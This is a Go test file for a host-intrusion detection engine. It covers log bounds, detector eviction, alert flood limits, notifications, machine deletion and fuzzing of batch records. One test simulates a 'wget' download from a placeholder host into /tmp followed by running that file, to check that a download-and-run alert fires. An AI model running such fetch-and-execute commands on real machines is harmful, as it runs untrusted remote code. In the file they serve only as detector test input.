package engine

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/bulkheadhq/bulkhead/agent/activity"
	"github.com/bulkheadhq/bulkhead/agent/batch"
	"github.com/bulkheadhq/bulkhead/internal/arm"
	"github.com/bulkheadhq/bulkhead/internal/services/security/alerts"
	"github.com/bulkheadhq/bulkhead/internal/services/security/detect"
	"github.com/bulkheadhq/bulkhead/internal/store"
)

// exec is a started program.
func exec(at time.Time, pid uint32, args ...string) activity.Event {
	e := activity.Event{
		Kind: activity.Exec, Millis: at.UnixMilli(), Success: true, Call: "execve",
		Process: activity.Process{PID: pid, Parent: 2001, AUID: 1000, UID: 1000, Session: 7, Comm: []byte(args[0]), Image: []byte("/usr/bin/" + args[0])},
		Command: activity.Command{Line: []byte(strings.Join(args, " ")), Dir: []byte("/tmp"), File: []byte("/usr/bin/" + args[0])},
	}
	for _, a := range args {
		e.Command.Args = append(e.Command.Args, []byte(a))
	}
	return e
}

// batches lists the numbers of those in a machine's log.
func (r *rig) batches() (seqs []uint64) {
	r.t.Helper()
	err := r.store.View(r.t.Context(), machineShard(machineGUID), func(s store.Snapshot) error {
		seqs = nil
		return s.Scan(store.Prefix([]byte("B|")), func(k, v []byte) bool {
			kept, _, err := decodeBatch(uint64(k[9]), v)
			if err != nil || kept.events == 0 {
				r.t.Errorf("batch %x: %d events, %v", k, kept.events, err)
			}
			seqs = append(seqs, uint64(k[9]))
			return true
		})
	})
	if err != nil {
		r.t.Fatal(err)
	}
	return seqs
}

// TestLog_Bounded: batches that the detector has forgotten, and those over the bounds, go; what is left still joins with what comes after a restart.
func TestLog_Bounded(t *testing.T) {
	t.Parallel()
	st := newStore(t)
	r := open(t, st, nil)
	one := func(pid uint32) []byte { return pack(t, []activity.Event{exec(r.clock.Now(), pid, "true")}) }
	for seq := range 5 {
		r.take(seq+1, one(uint32(3000+seq)))
		r.clock.Advance(20 * time.Hour)
	}
	if got, want := r.batches(), []uint64{3, 4, 5}; !slices.Equal(got, want) {
		t.Errorf("batches %v are kept, want %v", got, want)
	}
	many := make([]activity.Event, batch.MaxEvents)
	for i := range many {
		many[i] = exec(r.clock.Now(), 4000, "true")
	}
	big := pack(t, many)
	for seq := range 8 {
		r.take(seq+6, big)
	}
	if got, want := r.batches(), []uint64{7, 8, 9, 10, 11, 12, 13}; !slices.Equal(got, want) || MaxLogEvents/batch.MaxEvents != 7 {
		t.Errorf("of many events, batches %v are kept, want %v", got, want)
	}
	start := time.Now()
	again := open(t, st, nil)
	again.take(14, one(5000))
	if d := time.Since(start); d > 30*time.Second {
		t.Errorf("replaying %d events took %s", 7*batch.MaxEvents, d)
	} else {
		t.Logf("replayed %d events in %s", 7*batch.MaxEvents, d.Round(time.Millisecond))
	}
}

// manyMachines finds a machine for every name.
type manyMachines struct{}

func (manyMachines) Resource(_ context.Context, id string) (*arm.Resource, string, error) {
	name := id[strings.LastIndexByte(id, '/')+1:]
	return &arm.Resource{ID: id, Name: name, GUID: name}, "tenant", nil
}

// TestMachines_Bounded: no more detectors than allowed are in memory, and one that had to go has forgotten nothing when it comes back.
func TestMachines_Bounded(t *testing.T) {
	t.Parallel()
	r := open(t, newStore(t), nil)
	r.engine.deps.Machines, r.engine.deps.Resources = 3, manyMachines{}
	id := func(n int) string { return strings.Replace(machineID, "db1", fmt.Sprintf("m%d", n), 1) }
	at := r.clock.Now()
	for n := range 10 {
		if _, err := r.engine.Ingest(t.Context(), id(n), 1, nil, pack(t, []activity.Event{exec(at, 3000, "wget", "-O", "/tmp/x", "http://files.example.net/x")})); err != nil {
			t.Fatal(err)
		}
		if len(r.engine.machines) > 3 {
			t.Fatalf("%d machines in memory, want 3 at most", len(r.engine.machines))
		}
	}
	run := exec(at.Add(time.Second), 3001, "x")
	run.Command.File, run.Process.Image = []byte("/tmp/x"), []byte("/tmp/x")
	for n := range 10 {
		if _, err := r.engine.Ingest(t.Context(), id(n), 2, nil, pack(t, []activity.Event{run})); err != nil {
			t.Fatal(err)
		}
	}
	ran := map[string]bool{}
	for _, a := range r.alerts() {
		if a.Type == "VM_DownloadAndRunCombo" {
			ran[a.Host] = true
		}
	}
	if len(ran) != 10 {
		t.Errorf("fetched and run is seen on %d machines, want 10", len(ran))
	}
}

// TestFlood: a batch of very many different suspicions keeps the worst, and says how many there was no room for.
func TestFlood(t *testing.T) {
	t.Parallel()
	r := open(t, newStore(t), nil)
	g := gathering{e: r.engine, src: source{guid: machineGUID, id: machineID, subscription: subscription, host: "db1"}}
	low := detect.Alert{Type: "BH_Low", Name: "Low", Severity: detect.Low}
	high := detect.Alert{Type: "BH_High", Name: "High", Severity: detect.High}
	for i := range 2 * maxAlerts {
		kind := &low
		if i >= 2*maxAlerts-10 {
			kind = &high
		}
		g.add(&detect.Finding{Alert: kind, Key: fmt.Sprint(i), Millis: 1000, Why: "why"})
	}
	g.losses(1, 0, &batch.Batch{})
	rows, err := g.rows(1)
	if err != nil {
		t.Fatal(err)
	}
	count := map[string]int{}
	for _, row := range rows {
		f, err := effectCodec.Decode(row)
		if err != nil {
			t.Fatal(err)
		}
		for i := range f.Alerts {
			count[f.Alerts[i].Type]++
			if f.Alerts[i].Type == "BH_AlertsDropped" && f.Alerts[i].Extended["alertsDropped"] != fmt.Sprint(maxAlerts) {
				t.Errorf("dropped: %v", f.Alerts[i].Extended)
			}
		}
	}
	if diff := cmp.Diff(map[string]int{"BH_Low": maxAlerts - 10, "BH_High": 10, "BH_AlertsDropped": 1}, count); diff != "" {
		t.Error(diff)
	}
}

// TestNotify: of each new alert it is told once, in the transaction that stores it, and of none that a rule dismissed.
func TestNotify(t *testing.T) {
	t.Parallel()
	r := open(t, newStore(t), nil)
	told := map[string]int{}
	r.engine.deps.Notify = func(a *alerts.Alert, n Notice) (func(store.Tx) error, error) {
		name := a.Name
		if n != (Notice{ID: a.Name, Time: a.Generated}) {
			t.Errorf("of %s it is told for %+v", a.Name, n)
		}
		return func(tx store.Tx) error { told[name]++; return tx.Put([]byte("told|"+name), []byte("x")) }, nil
	}
	if err := r.engine.PutRule(t.Context(), subscription, Rule{Name: "r", Type: "VM_LinuxReconnaissance", Enabled: true}); err != nil {
		t.Fatal(err)
	}
	for i, packed := range intrusion(t, 30) {
		r.take(i+1, packed)
		r.take(i+1, packed)
	}
	for _, a := range r.alerts() {
		want := 1
		if a.Type == "VM_LinuxReconnaissance" {
			want = 0
		}
		if told[a.Name] != want {
			t.Errorf("of %s (%s) it was told %d times, want %d", a.Type, a.Status, told[a.Name], want)
		}
	}
}

// TestForget: nothing is left of a deleted machine but its alerts.
func TestForget(t *testing.T) {
	t.Parallel()
	r := open(t, newStore(t), nil)
	r.take(1, intrusion(t, 1000)[0])
	before := len(r.alerts())
	if err := r.engine.Forget(t.Context(), machineGUID); err != nil {
		t.Fatal(err)
	}
	if acked, err := r.engine.Acked(t.Context(), machineID); err != nil || acked != 0 || len(r.batches()) != 0 || len(r.alerts()) != before {
		t.Errorf("after Forget: acknowledged %d, %v; batches %v; %d alerts, want %d", acked, err, r.batches(), len(r.alerts()), before)
	}
}

// FuzzBatchRecord: whatever is in the store, a record is read or refused.
func FuzzBatchRecord(f *testing.F) {
	f.Add(encodeBatch(kept{events: 3, taken: 1000}, []byte("BHB")))
	f.Add([]byte{'B', 1, 0xff, 0xff})
	f.Fuzz(func(t *testing.T, b []byte) {
		k, packed, err := decodeBatch(1, b)
		if err == nil && (k.events < 0 || len(packed) > len(b)) {
			t.Errorf("%x: %+v", b, k)
		}
	})
}
